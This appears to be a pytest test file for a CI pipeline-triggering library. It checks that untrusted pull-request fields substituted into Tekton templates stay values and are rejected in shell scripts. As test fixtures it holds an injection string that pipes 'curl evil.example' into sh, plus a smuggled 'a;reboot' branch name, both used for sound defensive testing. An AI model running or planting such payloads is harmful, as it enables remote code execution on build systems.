"""`{{ ... }}` in runs: a value stays a value, and what a stranger wrote does not become a script."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pilothouse.delivery.triggering import Files, Occasion, UntrustedError, build, read
from pilothouse.delivery.triggering.variables import harmless, replaced

EVIL = 'x"; curl evil.example | sh; echo "'
PULL = Occasion(
    "pull_request", "acme/shop", "https://forge/acme/shop.git", "m" * 40, "h" * 40, source_branch="feat/cart",
    sender="eve", title=EVIL, number=7, comment="/test unit", files=Files(added=("a.go",)),
    body={"pull_request": {"title": EVIL, "id": 9}}, headers={"X-GitHub-Event": "pull_request"},
)  # fmt: skip


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("{{ revision }}", "m" * 40), ("{{revision}}", "m" * 40), ("a-{{ repo_owner }}-{{ repo_name }}", "a-acme-shop"),
        ("{{ pull_request_number }}", "7"), ("{{ source_branch }}", "feat/cart"), ("{{ event_title }}", EVIL),
        ("{{ body.pull_request.id }}", "9"), ("{{ headers['x-github-event'] }}", "pull_request"),
        ("{{ files.all }}", '["a.go"]'), ("{{ cel: pac.x }}", None), ("{{ nobody.knows }}", "{{ nobody.knows }}"),
        ('{{ cel: files.all.exists(f, f.endsWith(".go")) }}', "true"), ("{{ body.none }}", "{{ body.none }}"),
        ("{{ head_revision }}", "h" * 40), ("$(params.x)", "$(params.x)"),
    ],
)  # fmt: skip
def test_values(text: str, value: str | None) -> None:
    if value is None:
        with pytest.raises(ValueError, match=r"pac\.x"):
            replaced({"value": text}, PULL)
        return
    assert replaced({"value": text}, PULL)[0] == {"value": value}


@pytest.mark.parametrize(
    "step",
    [
        {"script": "echo {{ event_title }}"}, {"script": 'echo "{{ body.pull_request.title }}"'},
        {"command": ["sh", "-c", "echo {{ event_title }}"]}, {"command": ["bash"], "args": ["-ec", "{{ event_title }}"]},
    ],
)  # fmt: skip
def test_a_strangers_words_do_not_become_a_script(step: dict[str, object]) -> None:
    with pytest.raises(UntrustedError, match="which somebody outside chose"):
        replaced({"steps": [step]}, PULL)


def test_what_cannot_do_harm_may_be_in_a_script() -> None:
    step = {"script": "git checkout {{ source_branch }} # {{ sender }}"}
    assert replaced(step, PULL)[0]["script"] == "git checkout feat/cart # eve"
    with pytest.raises(UntrustedError):
        replaced(step, replace(PULL, source_branch="a;reboot"))


def test_it_may_be_a_parameter_and_a_variable_and_is_remembered() -> None:
    body = {
        "params": [{"value": "{{ event_title }}"}],
        "env": [{"value": "{{ sender }}"}],
        "args": ["{{ event_title }}"],
    }
    found, foreign = replaced(body, PULL)
    assert found["params"][0]["value"] == EVIL
    assert foreign == {EVIL}


def test_an_unquoted_variable_is_a_value() -> None:
    text = """
apiVersion: tekton.dev/v1
kind: PipelineRun
metadata:
  name: r
  annotations: {pipelinesascode.tekton.dev/on-event: pull_request, pipelinesascode.tekton.dev/on-target-branch: main}
spec:
  params:
  - name: revision
    value: {{ revision }}
  - name: title
    value: "{{ event_title }}"
  workspaces:
  - {name: basic-auth, secret: {secretName: "{{ git_auth_secret }}"}}
  pipelineSpec:
    params: [{name: revision}, {name: title}]
    workspaces: [{name: basic-auth}]
    tasks:
    - name: t
      taskSpec: {steps: [{name: s, image: b, script: "true"}]}
"""
    found = read({".tekton/r.yaml": text})
    assert not found.broken
    ready = build(found.definitions[0], PULL)
    assert ready.document.body["spec"]["params"][0] == {"name": "revision", "value": "m" * 40}
    assert ready.document.body["spec"]["workspaces"] == [{"name": "basic-auth", "emptyDir": {}}]
    assert EVIL in ready.untrusted


@given(st.text())
def test_harmless_has_no_letter_of_a_shells(text: str) -> None:
    if harmless(text):
        assert not set(text) & set(" \t\n\"'`$;&|<>(){}[]*?!#~\\^")
